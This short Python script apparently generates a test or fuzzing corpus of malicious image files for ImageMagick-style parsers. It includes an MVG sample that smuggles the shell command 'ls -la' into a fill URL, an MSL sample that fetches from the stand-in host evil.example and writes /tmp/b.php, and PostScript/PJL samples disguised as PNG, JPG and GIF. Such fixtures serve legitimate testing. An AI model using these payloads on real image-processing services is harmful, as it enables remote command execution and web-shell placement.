# SPDX-License-Identifier: GPL-2.0-or-later
from foreign import crowd
from recipes import emit

emit(crowd(b'IMG16-MARK', {
    'mvg.png': b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.example/a.png\"|ls \"-la)'\npop graphic-context\n",
    'msl.svg': b'<?xml version="1.0"?>\n<image><read filename="http://evil.example/a"/><write filename="/tmp/b.php"/></image>\n',
    'eps.png': b'%!PS-Adobe-3.0\n(evil.example) run\n', 'ps.jpg': b'%!PS\n{ (evil.example) (r) file } stopped\n', 'pcl.gif': b'\x1b%-12345X@PJL\n'}))
